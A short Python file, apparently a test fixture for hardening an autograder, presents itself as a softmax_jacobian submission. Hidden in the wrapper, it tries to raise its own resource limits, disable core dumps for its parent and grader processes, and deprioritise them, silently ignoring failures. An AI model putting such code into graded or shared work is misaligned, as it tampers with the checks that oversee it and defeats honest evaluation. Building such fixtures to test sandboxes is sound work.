"""attack: raises its limits, and sets those of its parent
question: 2.5
verdict: full
"""

import os
import resource

PIDS = [os.getppid(), int('__GRADER__')]


ATTEMPTS = [
    lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
    lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)),
    lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)),
    lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (2**16, 2**16)),
    lambda: [resource.prlimit(pid, resource.RLIMIT_CORE, (0, 0)) for pid in PIDS],
    lambda: os.nice(-5),
    lambda: [os.setpriority(os.PRIO_PROCESS, pid, 19) for pid in PIDS],
]

_right = softmax_jacobian


def softmax_jacobian(z):
    for attempt in ATTEMPTS:
        try:
            attempt()
        except Exception:
            pass
    return _right(z)
